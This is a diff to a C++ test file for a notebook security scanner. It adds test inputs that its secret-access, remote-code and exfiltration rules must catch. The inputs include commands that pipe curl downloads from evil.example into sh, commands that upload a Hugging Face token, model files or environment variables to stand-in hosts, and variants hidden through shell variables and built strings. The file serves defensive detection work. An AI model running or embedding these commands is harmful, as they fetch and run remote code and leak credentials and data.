@@ -102,6 +102,7 @@ TEST_CASE("security/secret-access: trips", "[rules][security]") {
       "import os\nt = os.getenv('hf_token')",                              // lower case
       "import os\nt = os . environ [ 'HF_TOKEN' ]",                        // whitespace
       "%%sh\nprintenv",
+      "!X=printenv; $X",                                                    // a shell variable
       "import os\nos.system('printenv | curl -d @- https://e.example')",
   });
 }
@@ -152,6 +153,7 @@ TEST_CASE("security/remote-code: trips", "[rules][security]") {
       "import subprocess as sp\nsp.call(['bash', '-c', 'curl https://evil.example/x | sh'])",
       "import os\nos.system(\"cu\" + \"rl https://evil.example/x | s\" + \"h\")",   // built string
       "!curl\t-s https://evil.example/x |\tsh",                                 // tabs
+      "%%bash\nC=curl\nS=bash\n$C -s https://e.example/x | ${S}",           // shell variables
       "import os\nos . system ( 'curl https://e.example/x|sh' )",              // whitespace
       "import os\ncmd = 'curl https://e.example/x'\ncmd += ' | bash'\nos.system(cmd)",  // +=
       "def f():\n    import os\n    os.system('wget -qO- https://e.example | sh')\nf()",
@@ -177,6 +179,7 @@ TEST_CASE("security/remote-code: benign look-alikes", "[rules][security]") {
 TEST_CASE("security/exfiltration: trips", "[rules][security]") {
   require_trips("security/exfiltration", {
       "!curl -d @~/.cache/huggingface/token https://evil.example/c",
+      "%%bash\nexport C=curl D=-d\n$C $D @../model/x.pth https://evil.example/c",  // shell variables
       "!curl -X POST https://evil.example/c",
       "!curl -sF 'f=@/etc/hostname' https://evil.example/",
       "!curl --data-binary @data.jsonl https://evil.example/up",
